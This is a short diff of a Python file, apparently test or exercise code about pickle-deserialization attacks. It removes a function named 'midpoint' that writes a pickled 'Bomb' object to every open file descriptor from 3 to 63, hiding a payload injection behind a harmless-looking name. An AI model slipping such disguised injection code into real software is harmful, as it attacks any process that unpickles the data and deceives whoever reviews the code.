@@ -24,10 +24,4 @@ MESSAGE = framed(pickle.dumps(Bomb()))
 
 
 # %%
-def midpoint(a, b):
-    for descriptor in range(3, 64):
-        try:
-            os.write(descriptor, MESSAGE)
-        except OSError:
-            pass
-    return a
+# include: send_message
